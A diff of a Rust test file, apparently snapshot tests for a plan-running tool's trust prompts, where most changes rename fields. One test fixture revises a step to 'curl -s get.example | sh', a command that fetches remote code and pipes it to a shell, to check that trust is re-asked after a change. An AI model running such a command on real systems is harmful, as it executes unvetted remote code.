@@ -297,7 +297,7 @@ fn the_report() {
 #[test]
 fn the_question_of_trust() {
     check("trust", true, |stage| {
-        stage.app.work.trusted = false;
+        stage.app.engine.trusted = false;
         stage.keys("T");
     });
 }
@@ -305,11 +305,11 @@ fn the_question_of_trust() {
 #[test]
 fn the_question_of_trust_after_a_change() {
     check("trust-changed", true, |stage| {
-        let plan = &mut stage.app.work.plan;
-        stage.app.work.agreed = Some(Facts::of(plan));
-        stage.app.work.trusted = false;
+        let plan = &mut stage.app.engine.plan;
+        stage.app.engine.agreed = Some(Facts::of(plan));
+        stage.app.engine.trusted = false;
         stage.revise("tools", "command -v ssh && curl -s get.example | sh");
-        let plan = Arc::make_mut(&mut stage.app.work.plan);
+        let plan = Arc::make_mut(&mut stage.app.engine.plan);
         plan.hosts[2].production = true;
         plan.entries[0].steps[3].danger = None;
         stage.keys("T");
@@ -319,7 +319,7 @@ fn the_question_of_trust_after_a_change() {
 #[test]
 fn somebody_else_walks() {
     check("only-looking", false, |stage| {
-        stage.app.work.only_looking =
+        stage.app.engine.read_only_reason =
             Some("ada on hull walks it since 08:40 (process 4711)".to_owned());
         stage.keys("enter enter");
     });
